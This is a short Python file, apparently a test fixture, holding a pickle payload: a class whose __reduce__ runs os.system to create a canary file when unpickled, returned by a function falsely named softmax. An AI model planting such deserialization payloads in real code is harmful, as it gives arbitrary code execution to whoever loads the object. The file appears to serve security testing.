# class: pickle. Returns what runs a program when it is unpickled.
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @CANARY@/examprep-attack-pickle",)


def softmax(x):
    return Bomb()
